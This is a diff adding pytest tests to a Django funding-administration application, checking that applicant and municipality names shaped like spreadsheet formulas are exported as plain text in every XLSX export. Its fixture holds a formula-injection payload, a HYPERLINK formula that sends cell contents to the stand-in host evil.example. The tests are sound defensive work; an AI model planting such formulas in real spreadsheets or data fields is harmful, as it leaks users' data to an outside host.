@@ -1,6 +1,10 @@
+import datetime as dt
 import io
+from decimal import Decimal
 
+import pytest
 from django.test import Client
+from django.urls import URLResolver, get_resolver, reverse
 from openpyxl import load_workbook
 
 from pik.core.roles import Role
@@ -107,3 +111,82 @@ def test_rps_splits_a_fixed_budget_from_the_contingent_page(
         client.post("/foerderung/kontingente/im/", {"action": "split", "year": "2020"}).status_code
         == 404
     )
+
+
+# --- Formula injection: text that looks like a formula stays text in every export -----------
+
+EVIL = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Antrag öffnen")'
+
+
+@pytest.fixture
+def evil_names(im, contingents, actors):  # type: ignore[no-untyped-def]
+    """An applicant and a Gemeinde named like formulas, with a submitted application."""
+    from pik.funding import services
+    from pik.orgs.models import Gemeinde
+
+    Gemeinde.objects.filter(ags="08115003").update(name="=1+1")
+    applicant = services.applicant_create(
+        programme=im, kind="gemeinde", members=[contingents["08115003"]], name=EVIL, actor=None
+    )
+    application = services.application_create(
+        programme=im, applicant=applicant, year=2020, actor=actors["gemeinde_a"]
+    )
+    services.position_add(
+        application=application,
+        person_name="-Sara Nouri",
+        qualification="university",
+        share=Decimal("1.00"),
+        start_date=dt.date(2020, 3, 1),
+        months=24,
+        actor=actors["gemeinde_a"],
+    )
+    step(application, "submit", actors["gemeinde_a"])
+
+
+def test_applicant_named_like_a_formula_is_exported_as_text(
+    client: Client, evil_names, actors
+) -> None:
+    client.force_login(actors["head"])
+    response = client.get("/foerderung/antraege/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cell = sheet["D2"]  # Antragsteller
+    assert cell.value == EVIL
+    assert cell.data_type == "s" and cell.quotePrefix
+
+
+def _export_routes() -> list[tuple[str, list[str]]]:
+    """Every named URL of ours that serves a spreadsheet, from the URL conf."""
+    found = []
+
+    def walk(patterns, namespace):  # type: ignore[no-untyped-def]
+        for p in patterns:
+            if isinstance(p, URLResolver):
+                walk(p.url_patterns, p.namespace or namespace)
+            elif str(p.pattern).endswith((".xlsx", ".csv")) and p.name:
+                found.append((f"{namespace}:{p.name}", list(p.pattern.converters)))
+
+    walk(get_resolver().url_patterns, None)
+    return sorted(found)
+
+
+EXPORT_KWARGS = {"code": "im"}
+
+
+def test_export_routes_are_found() -> None:
+    names = {name for name, _ in _export_routes()}
+    assert {"funding:application_export", "funding:contingent_export"} <= names
+
+
+@pytest.mark.parametrize(("name", "params"), _export_routes())
+def test_no_export_contains_a_formula(
+    client: Client, evil_names, actors, name: str, params: list[str]
+) -> None:
+    """Generated from the URL conf: a new export is checked the day it is added."""
+    client.force_login(actors["head"])
+    response = client.get(reverse(name, kwargs={p: EXPORT_KWARGS[p] for p in params}))
+    assert response.status_code == 200
+    workbook = load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert EVIL in texts or "=1+1" in texts  # the injected names are there, as text
